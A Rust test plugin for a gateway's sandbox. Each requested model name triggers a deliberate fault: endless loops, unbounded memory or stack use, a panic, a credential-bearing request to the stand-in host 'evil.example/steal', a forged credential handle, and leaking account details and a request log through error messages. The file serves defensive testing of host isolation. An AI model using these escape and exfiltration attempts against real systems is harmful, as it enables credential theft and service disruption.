//! A provider component that misbehaves when the requested model says so, and otherwise acts
//! like `openai-compat`. Freeway's sandbox tests use it:
//!
//! - `loop`: spins forever in `chat`
//! - `alloc`: allocates without bound
//! - `panic`: panics
//! - `evil-host`: asks the host to fetch a URL outside its manifest's allowed hosts
//! - `forged-credential`: names a credential handle it was not given
//! - `stack`: recurses without bound
//! - `observe`: reports everything it can see of its account (label, settings, what the
//!   simulator's request log looks like through the host) in an error message
//! - anything else: a normal OpenAI-compatible passthrough

use std::hint::black_box;

use freeway_sdk::provider::openai_passthrough;
use freeway_sdk::types::*;
use freeway_sdk::{Provider, export_provider};

struct Misbehave;

fn recurse(n: u64) -> u64 {
    let buf = black_box([n; 64]);
    if buf[0] == u64::MAX { 0 } else { recurse(n + 1) + buf[3] }
}

impl Provider for Misbehave {
    fn manifest() -> ProviderManifest {
        ProviderManifest {
            id: "misbehave".to_owned(),
            name: "Misbehaving test provider".to_owned(),
            version: "0.0.1".to_owned(),
            allowed_hosts: vec!["$base_url".to_owned()],
            auth: AuthStyle::Bearer,
            default_base_url: None,
            needs_body: false,
            limit_headers: Vec::new(),
            models: Vec::new(),
        }
    }

    fn chat(req: ChatRequest) -> Result<UpstreamCall, ProviderError> {
        match req.model.as_str() {
            "loop" => {
                let mut x: u64 = 0;
                loop {
                    x = black_box(x.wrapping_add(1));
                }
            }
            "alloc" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1u8; 1 << 20]);
                    black_box(&hoard);
                }
            }
            "panic" => panic!("misbehave was asked to panic"),
            "stack" => {
                let n = recurse(black_box(0));
                Err(freeway_sdk::errors::bad_request(&format!("unreachable {n}")))
            }
            "evil-host" => {
                let r = freeway_sdk::http::send(
                    &HttpRequest {
                        method: "GET".into(),
                        url: "http://evil.example/steal".into(),
                        headers: Vec::new(),
                        body: Vec::new(),
                        timeout_ms: Some(1000),
                    },
                    Some(req.account),
                );
                Err(match r {
                    Ok(_) => freeway_sdk::errors::bad_request("the host let me out"),
                    Err(e) => freeway_sdk::http::http_error(&e),
                })
            }
            "forged-credential" => {
                let url = format!("{}/models", req.config.base_url);
                let r = freeway_sdk::http::send(
                    &HttpRequest {
                        method: "GET".into(),
                        url,
                        headers: Vec::new(),
                        body: Vec::new(),
                        timeout_ms: Some(1000),
                    },
                    Some(req.account + 7),
                );
                Err(match r {
                    Ok(_) => freeway_sdk::errors::bad_request("the host accepted a forged handle"),
                    Err(e) => freeway_sdk::http::http_error(&e),
                })
            }
            "observe" => {
                use freeway_sdk::provider::bindings::freeway::gateway::credentials;
                let origin = req.config.base_url.split('/').take(3).collect::<Vec<_>>().join("/");
                let seen = freeway_sdk::http::send(
                    &HttpRequest {
                        method: "GET".into(),
                        url: format!("{origin}/_sim/requests"),
                        headers: Vec::new(),
                        body: Vec::new(),
                        timeout_ms: Some(2000),
                    },
                    Some(req.account),
                );
                let body = match seen {
                    Ok(r) => String::from_utf8_lossy(&r.body).into_owned(),
                    Err(e) => format!("{e:?}"),
                };
                let report = format!(
                    "observed label={} account_id={:?} params={:?} log={body}",
                    credentials::label(req.account),
                    credentials::setting(req.account, "account_id"),
                    req.params
                );
                Err(freeway_sdk::errors::bad_request(&report))
            }
            _ => Ok(openai_passthrough(&req, "chat/completions", Vec::new())),
        }
    }
}

export_provider!(Misbehave);
